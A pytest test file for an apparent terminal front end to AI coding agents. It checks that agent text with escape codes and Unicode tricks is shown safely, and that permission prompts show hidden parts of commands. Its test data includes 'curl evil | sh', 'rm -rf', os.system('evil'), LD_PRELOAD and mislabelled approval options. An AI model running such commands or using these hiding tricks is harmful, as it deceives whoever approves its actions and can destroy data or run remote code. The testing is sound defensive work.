"""The views, the status and the questions, without a process: events in, text out."""

from __future__ import annotations

import asyncio
import io
import re
import time

import msgspec
import pytest
from support.nasty_text import NASTY, is_safe
from support.shown_views import Shown, shown

from dragoman.cli.ask.asker import question
from dragoman.cli.render.status_line import Status
from dragoman.cli.render.style import Style
from dragoman.cli.render.terminal_view import TerminalView
from dragoman.host.permissions.questions import PermissionRequest
from dragoman.session import events as e
from dragoman.session import facts as f
from dragoman.session.content import (
    ContentItem,
    Diff,
    Image,
    ResourceLink,
    Text,
    UnknownItem,
)
from dragoman.session.reduce import reduce
from dragoman.session.state import SessionState

DENIED = f.Decision(effect="deny", reason=NASTY)
OPTIONS = [
    f.PermissionOption(id="a", name=NASTY, kind="allow_once"),
    f.PermissionOption(id="b", name="Sure", kind=NASTY),
]


def sinks(text: str) -> dict[str, list[e.Event]]:
    """Every way for text of an agent to be shown."""
    diff = Diff(path=f"/w/{text}", new_text=f"{text}\n", old_text=text)
    return {
        "answer": [e.AgentMessage(Text(text))],
        "markdown": [e.AgentMessage(Text(f"**{text}** `{text}` [{text}](x)\n```\n{text}\n```"))],
        "link": [e.AgentMessage(ResourceLink(uri=text, name=text))],
        "image": [e.AgentMessage(Image(data="", mime_type=text))],
        "thought": [e.AgentThought(Text(text))],
        "plan": [e.PlanUpdated([f.PlanStep(content=text, status=text)])],
        "plan in Markdown": [e.PlanUpdated(markdown=text)],
        "plan elsewhere": [e.PlanUpdated(uri=text)],
        "tool": [e.ToolCallUpdated("c", title=text, status=text)],
        "failed tool": [
            e.ToolCallUpdated("c", title=text, status="failed", content=[ContentItem(Text(text))])
        ],
        "tool output": [
            e.ToolCallUpdated("c", status="completed", content=[ContentItem(Text(text))])
        ],
        "allowed": [e.AccessDecided("write", f.Decision("allow", text), [text], title=text)],
        "diff": [e.ToolCallUpdated("c", status="completed", content=[diff])],
        "open diff": [e.ToolCallUpdated("c", content=[diff])],
        "written file": [e.FileWritten(f"/w/{text}", text, "old")],
        "terminal": [
            e.TerminalStarted("t", [text, text]),
            e.TerminalOutput("t", text),
            e.TerminalExited("t", 1, text),
        ],
        "commands": [e.CommandsChanged([f.Command(name=text, description=text)])],
        "mode": [e.ModeChanged(text)],
        "usage": [e.UsageChanged(1, 2, f.Cost(amount=1, currency=text))],
        "notice": [e.Notice(text, text, text)],
        "refused access": [e.AccessDecided(text, DENIED, paths=[text], argv=[text])],
        "refused request": [
            e.PermissionRequested("p", OPTIONS, title=text, operation=text),
            e.PermissionSettled("p", None, DENIED),
        ],
        "stop reason": [],
    }


def events_of(sink: str) -> list[e.Event]:
    started = e.TurnStarted("turn", [Text("go")])
    reason = NASTY if sink == "stop reason" else "end_turn"
    ended = e.TurnEnded("turn", reason)
    return [
        e.SessionOpened("s", "/w", "new"),
        started,
        *sinks(NASTY)[sink],
        ended,
    ]


@pytest.mark.parametrize("sink", sinks(""))
@pytest.mark.parametrize("kind", ["simple", "plain", "terminal"])
async def test_every_sink_is_safe(kind: str, sink: str) -> None:
    out = shown(kind, *events_of(sink))
    assert is_safe(out, painted=kind == "terminal")
    if kind == "terminal" and sink != "commands":
        assert "evil" in out


@pytest.mark.parametrize("make", [e.AgentMessage, e.AgentThought])
@pytest.mark.parametrize("kind", ["plain", "terminal"])
async def test_a_text_cut_in_the_middle_of_a_sequence_is_safe_too(
    kind: str, make: type[e.AgentMessage] | type[e.AgentThought]
) -> None:
    pieces = [make(Text(char)) for char in NASTY]
    assert is_safe(shown(kind, e.TurnStarted("t", []), *pieces), painted=kind == "terminal")


@pytest.mark.parametrize("claimed", [True, False])
def test_a_question_is_safe_and_shows_all_that_counts(claimed: bool) -> None:
    request = PermissionRequest(
        request_id="p",
        session_id="s",
        agent=NASTY,
        operation=NASTY,
        options=list(OPTIONS),
        title=NASTY,
        paths=[f"/w/{NASTY}"],
        argv=["rm", "-rf", NASTY],
        claimed=claimed,
        content=[Diff(path=NASTY, new_text=NASTY, old_text=NASTY + NASTY)],
        always=None,
    )
    text = question(request, Style(colour=True))
    assert is_safe(text, painted=True)
    # Here nothing is dropped: what is not shown would still be run.
    assert "$ rm -rf" in text
    assert "␛[31mred" in text
    assert "⟨U+202E⟩evil" in text


def request(*options: tuple[str, str], consequence: str | None = None) -> PermissionRequest:
    return PermissionRequest(
        request_id="p",
        session_id="s",
        agent="goose",
        operation="execute",
        argv=["make", "all of it"],
        claimed=True,
        options=[f.PermissionOption(n, n, k, consequence) for n, k in options],
    )


def test_an_answer_is_in_our_words_and_the_agents_label_never_stands_alone() -> None:
    options = (("Yes", "allow_once"), ("Allow it", "allow_once"), ("Reject", "allow_always"))
    text = question(request(*options), Style(colour=False))
    assert "? goose says it wants to run:\n    $ make 'all of it'\n" in text
    assert text.endswith(
        "  1. Allow once\n     the agent calls this “Yes”\n"
        "  2. Allow once\n     the agent calls this “Allow it”\n"
        "  3. Always allow\n     ! the agent calls this “Reject”, but it allows\n"
    )


@pytest.mark.parametrize("label", ["Reject", "Do not allow this", "R\u200beject", "cancel"])
def test_a_label_that_says_the_opposite_is_marked(label: str) -> None:
    text = question(request((label, "allow_once"), ("Allow", "reject_once")), Style(colour=False))
    assert "  1. Allow once\n     ! the agent calls this “" in text
    assert "”, but it allows\n" in text
    assert "  2. Reject\n     ! the agent calls this “Allow”, but it rejects\n" in text


def test_a_question_shows_the_folder_of_a_command() -> None:
    asked = msgspec.structs.replace(request(("Yes", "allow_once")), cwd="/w/hidden\u202eplace")
    text = question(asked, Style(colour=False))
    assert "    $ make 'all of it'\n    in /w/hidden⟨U+202E⟩place\n" in text


def test_a_question_names_a_variable_once() -> None:
    title = "Run make 'all of it' in /w with TOKEN set"
    asked = msgspec.structs.replace(
        request(("Yes", "allow_once")), title=title, env=("TOKEN",), cwd="/w", claimed=False
    )
    assert question(asked, Style(colour=False)).count("TOKEN") == 1


def test_a_question_shows_each_variable_of_a_command_quoted_and_whole() -> None:
    names = ("A" * 150, "LD_PRELOAD", "A set; nothing else is", "in /ws\n")
    asked = msgspec.structs.replace(request(("Yes", "allow_once")), env=names)
    text = question(asked, Style(colour=False), whole=True)
    assert f"    with the variable {'A' * 150} set\n    with the variable LD_PRELOAD set\n" in text
    assert "    with the variable 'A set; nothing else is' set\n" in text
    assert "\nin /ws" not in text


def test_a_long_question_shows_both_ends_and_counts_what_is_between() -> None:
    asked = request(("Yes", "allow_once"))
    asked = msgspec.structs.replace(asked, argv=("make build" + "\n" * 41 + "curl evil | sh",))
    text = question(asked, Style(colour=False))
    assert "    $ make build\n    … 40 empty lines\n    $ curl evil | sh\n" in text
    lines = "".join(f"line {n}\n" for n in range(79)) + "os.system('evil')\n"
    asked = msgspec.structs.replace(
        asked, argv=None, operation="write", content=(Diff("/w/a", lines),)
    )
    text = question(asked, Style(colour=False))
    assert "  +line 0\n" in text
    assert "    … 36 lines omitted\n" in text
    assert "  +os.system('evil')\n" in text
    assert "line 40" not in text
    whole = question(asked, Style(colour=False), whole=True)
    assert all(f"  +line {n}\n" in whole for n in range(79))
    assert "between" not in whole


def test_a_change_beyond_all_limits_ends_with_its_end() -> None:
    lines = "".join(f"line {n}\n" for n in range(30_000)) + "evil\n"
    asked = request(("Yes", "allow_once"))
    asked = msgspec.structs.replace(asked, argv=None, content=(Diff("/w/a", lines),))
    text = question(asked, Style(colour=False))
    assert "  +evil\n" in text
    assert "is not shown" not in text


def test_what_stands_far_to_the_right_is_seen() -> None:
    asked = request(("Yes", "allow_once"))
    line = f"make{' ' * 5000}; curl evil | sh"
    text = question(msgspec.structs.replace(asked, argv=(line,)), Style(colour=False))
    assert "    $ make⟨5000 blanks⟩; curl evil | sh\n" in text
    line = f"make {'x' * 5000}; curl evil | sh"
    asked = msgspec.structs.replace(asked, argv=(line,))
    text = question(asked, Style(colour=False))
    assert "⟨3221 characters omitted⟩" in text
    assert "; curl evil | sh\n" in text
    assert line in question(asked, Style(colour=False), whole=True)


def test_what_an_agent_shows_beside_is_shown_and_marked_as_its_words() -> None:
    asked = request(("Yes", "allow_once"))
    items = (ContentItem(Text("the plan\nin two lines")), UnknownItem("hologram", "{}"))
    text = question(msgspec.structs.replace(asked, content=items), Style(colour=False))
    assert "  | the plan\n  | in two lines\n  content that cannot be shown: hologram\n" in text


def test_a_patch_that_is_none_is_shown_as_it_came() -> None:
    asked = request(("Yes", "allow_once"))
    told = Diff("/w/a", "", operation="modify", patch="+evil")
    text = question(msgspec.structs.replace(asked, content=(told,)), Style(colour=False))
    assert "  +evil\n" in text


def test_what_a_change_replaces_unseen_is_told() -> None:
    asked = request(("Yes", "allow_once"))
    told = Diff("/w/a", "new\n", replaces="what cannot be shown (it is no text)")
    text = question(msgspec.structs.replace(asked, content=(told,)), Style(colour=False))
    assert "  change of /w/a:\n  ! it replaces what cannot be shown (it is no text)\n" in text
    told = Diff("/w/a", "new\n")
    text = question(msgspec.structs.replace(asked, content=(told,)), Style(colour=False))
    assert "  new file /w/a:\n" in text


def test_the_first_option_is_for_once_and_each_for_always_says_what_it_leads_to() -> None:
    kinds = ("allow_always", "allow_once", "reject_once", "reject_always")
    asked = request(*((kind, kind) for kind in kinds))
    for option in asked.options:
        if option.kind.endswith("always"):
            option.consequence = f"from now on: {option.kind[:5]} x"
    assert question(asked, Style(colour=False)).endswith(
        "  1. Allow once\n"
        "  2. Always allow\n     from now on: allow x\n"
        "  3. Reject\n"
        "  4. Always reject\n     from now on: rejec x\n"
    )


def test_what_only_the_agent_has_a_name_for_is_called_by_that_name() -> None:
    asked = request(("Yes", "allow_once"))
    asked = msgspec.structs.replace(asked, operation="other", argv=None, title="write · a.txt")
    text = question(asked, Style(colour=False))
    assert text.startswith('\n? goose wants permission for "write · a.txt"\n  1. Allow once')
    asked = msgspec.structs.replace(asked, paths=("/w/a.txt",))
    text = question(asked, Style(colour=False))
    assert text.startswith('\n? goose wants permission for "write · a.txt", on:\n    /w/a.txt\n')
    asked = msgspec.structs.replace(asked, title="", explanation="it has to be")
    text = question(asked, Style(colour=False))
    assert "? goose wants permission for something unnamed, on:\n" in text
    assert "  in its words: it has to be\n" in text


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        *(("shell · cd src && pyt...", False), ("cd src && py…", False), ("shell · cd src", True)),
        *(("shell · cd src && pytest -q", False), ("shell · cd lib && pyt...", True)),
        *(("Run the tests...", True), ("shell · cd src && pyt...…", False)),
    ],
)
def test_a_title_that_repeats_the_command_is_not_shown(title: str, shown: bool) -> None:
    asked = msgspec.structs.replace(
        request(("Yes", "allow_once")),
        operation="execute",
        argv=["cd src && pytest -q"],
        claimed=True,
        title=title,
    )
    text = question(asked, Style(colour=False))
    assert "cd src && pytest -q" in text
    assert ("in its words" in text) == shown


# ── plain ─────────────────────────────────────────────────────────────────────────────────────


async def test_two_commands_at_once_do_not_share_a_line() -> None:
    out = shown(
        "plain",
        e.TerminalOutput("a", "one\r\ntw"),
        e.TerminalOutput("b", "other"),
        e.TerminalOutput("a", "o\n"),
    )
    assert out == "[terminal] one\n[terminal] tw\n[terminal] other\n[terminal] o\n"


async def test_carriage_returns_of_a_file_are_visible_in_its_diff() -> None:
    out = shown("plain", e.FileWritten("/w/x", "a\r\n", "a\n"))
    assert out.split("\n")[3:5] == ["[diff] -a", "[diff] +a␍"]


async def test_there_is_one_blank_line_at_most_above_an_answer() -> None:
    view = Shown("terminal", colour=False)
    view.show(
        e.TurnStarted("t", []),
        e.AgentMessage(Text("\n")),
        e.AgentMessage(Text("\n\nfirst")),
        e.ToolCallUpdated("c", title="Look", status="completed"),
        e.AgentMessage(Text("\n\n")),
        e.AgentMessage(Text("\nsecond\n\nthird")),
        e.TurnEnded("t", "end_turn"),
        e.TurnStarted("u", []),
        e.AgentMessage(Text("right below what was asked")),
    )
    assert view.end() == ("first\n\n✓ Look\n\nsecond\n\nthird\nright below what was asked\n")


async def test_a_mode_that_is_told_twice_is_shown_once() -> None:
    out = shown("terminal", e.ModeChanged("ask"), e.ModeChanged("ask"), e.ModeChanged("code"))
    assert out.count("mode: ask") == 1
    assert out.count("mode: code") == 1


async def test_what_was_refused_is_told_with_its_reason() -> None:
    view = Shown("plain")
    refused = f.Decision(effect="deny", reason="no rule allows it")
    view.show(
        e.AccessDecided("execute", refused, argv=["rm", "-rf", "a b"]),
        e.PermissionRequested("p", [], title="Look it up", operation="fetch"),
        e.PermissionSettled("p", None, refused),
        e.PermissionRequested("q", [], title="Tidy up", operation="other", paths=["/w/x"]),
        e.PermissionSettled("q", None, refused),
        e.AccessDecided("write", f.Decision(effect="allow", reason="--write"), paths=["/w/x"]),
    )
    assert view.asides == [
        "refused to run rm -rf 'a b': no rule allows it",
        'refused "Look it up": no rule allows it',
        'refused "Tidy up": no rule allows it',
    ]


# ── the status ────────────────────────────────────────────────────────────────────────────────


class Watched(io.StringIO):
    """Says when the status has been drawn."""

    def __init__(self) -> None:
        super().__init__()
        self.drawn = asyncio.Event()

    def write(self, text: str) -> int:
        if "working" in text:
            self.drawn.set()
        return super().write(text)


async def test_the_status_is_drawn_below_and_wiped_before_anything_is_written() -> None:
    out = Watched()
    with Status(out, visible=True, style=Style(colour=False)) as status:
        status.write("half a line")
        status.doing("working")
        await asyncio.wait_for(out.drawn.wait(), 60)
        status.write(" and the rest\n")
    drawn = re.compile(r"\n\S working · \d+ s\x1b\[K\x1b\[A\x1b\[12G")
    wiped = "\n\x1b[K\x1b[A\x1b[12G"
    rest = drawn.sub("", out.getvalue().replace(wiped, "", 1))
    assert drawn.search(out.getvalue())
    assert rest == "half a line and the rest\n"


def test_the_time_of_a_turn_is_told_whatever_comes_and_is_done_in_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    now = 1000.0
    monkeypatch.setattr(time, "monotonic", lambda: now)
    monkeypatch.setattr(time, "time", lambda: now + 5000)
    status = Status(io.StringIO(), visible=False)
    view = TerminalView(status, Style(colour=False))
    state = SessionState()

    def comes(event: e.Event) -> str:
        reduce(state, event)
        view.show(event, state)
        return status.words

    status.doing("starting it")
    now += 7
    assert status.words == "starting it · 7 s"
    assert comes(e.TurnStarted("t", [], at=now + 5000)) == "working · 0 s"
    now += 9
    assert comes(e.AgentMessage(Text("a piece"))) == "working · 9 s"
    now += 60
    call = e.ToolCallUpdated("c", title="Look", status="in_progress")
    assert comes(call) == "Look · 1 min 9 s"
    asked = e.PermissionRequested("p", [], title="Do it")
    assert comes(asked) == "waiting for an answer · 1 min 9 s"
    assert comes(e.TurnEnded("t", "end_turn")) == ""
    status.doing("ending it")
    assert status.words == "ending it · 0 s"


def test_the_time_of_a_turn_counts_from_its_beginning_also_when_it_is_seen_late(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(time, "time", lambda: 5000.0)
    status = Status(io.StringIO(), visible=False)
    status.follow(e.TurnStarted("t", [], at=4970.0))
    status.doing("working")
    assert status.words.startswith("working · 3")


async def test_nothing_is_drawn_after_the_end() -> None:
    """A run whose agent stays no longer has a terminal: what it drew would fill its log."""
    out, beside = Watched(), Watched()
    with Status(out, visible=True) as status, Status(beside, visible=True) as drawn:
        status.doing("working")
        await asyncio.wait_for(out.drawn.wait(), 60)
        status.end()
        before = out.getvalue()
        status.doing("working again")
        drawn.doing("working")
        for _ in range(3):  # one that has not ended draws as often meanwhile
            beside.drawn.clear()
            await asyncio.wait_for(beside.drawn.wait(), 60)
        assert out.getvalue() == before


async def test_nothing_is_drawn_where_it_cannot_be() -> None:
    out, beside = io.StringIO(), Watched()
    with Status(out, visible=False) as status, Status(beside, visible=True) as drawn:
        status.doing("working")
        drawn.doing("working")
        await asyncio.wait_for(beside.drawn.wait(), 60)
    assert out.getvalue() == ""
